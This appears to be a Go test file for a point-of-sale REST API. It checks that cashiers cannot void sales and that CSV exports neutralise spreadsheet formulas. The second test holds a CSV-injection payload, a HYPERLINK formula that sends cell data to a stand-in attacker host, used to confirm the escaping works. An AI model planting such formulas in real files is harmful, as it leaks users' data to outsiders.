package rest_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/pandac/pandac/ent/payment"
	"github.com/pandac/pandac/internal/money"
	"github.com/pandac/pandac/internal/pos"
	"github.com/pandac/pandac/internal/store"
	"github.com/pandac/pandac/internal/storetest"
)

// TestVoidThroughRESTNeedsTheTillRule: DELETE /v1/sales/{id} goes through
// the core's till controls, so a cashier deleting (voiding) a sale that is
// not of her own open cash session answers 403 naming VOID, and a manager's
// answers 204.
func TestVoidThroughRESTNeedsTheTillRule(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		admin := newClient(t, db)
		svc := pos.New(db.Client)
		ctx := context.Background()
		qty, price := int64(5), money.MustParse("2.00")
		p, err := svc.Catalogue().CreateProduct(ctx, pos.CreateProductRequest{Name: "Tea", Sku: "T-1", Price: &price}, pos.StockInput{Quantity: &qty})
		if err != nil {
			t.Fatal(err)
		}
		sl, err := svc.Selling().Checkout(ctx, pos.CheckoutInput{Items: []pos.ItemInput{{ProductID: p.ID, Quantity: 1}},
			Payments: []pos.PaymentInput{{Method: payment.MethodCARD, Amount: price}}})
		if err != nil {
			t.Fatal(err)
		}
		cashier := admin.as(admin.signIn("cashier"))
		r := cashier.do("DELETE", "/v1/sales/"+sl.ID.String(), nil)
		if r.Status != 403 || !strings.Contains(string(r.Body), "VOID") {
			t.Fatalf("cashier void: %d %s", r.Status, r.Body)
		}
		manager := admin.as(admin.signIn("manager"))
		manager.must(204, "DELETE", "/v1/sales/"+sl.ID.String(), nil)
	})
}

// TestCSVExportNeutralisesFormulas: a product named =HYPERLINK(...) comes
// out of a /v1 CSV export as text ('=HYPERLINK...), not as a formula.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		c := newClient(t, db)
		svc := pos.New(db.Client)
		qty, price := int64(5), money.MustParse("2.00")
		name := `=HYPERLINK("http://attacker.example/?d="&A1,"Click")`
		if _, err := svc.Catalogue().CreateProduct(context.Background(), pos.CreateProductRequest{Name: name, Sku: "@SKU", Price: &price}, pos.StockInput{Quantity: &qty}); err != nil {
			t.Fatal(err)
		}
		r := c.get("/v1/reports/inventory/stock-levels?format=csv", nil)
		if r.Status != 200 {
			t.Fatalf("status %d: %s", r.Status, r.Body)
		}
		rows, err := csv.NewReader(strings.NewReader(string(r.Body))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 2 || rows[1][1] != "'@SKU" || rows[1][2] != "'"+name {
			t.Fatalf("rows: %q", rows)
		}
	})
}
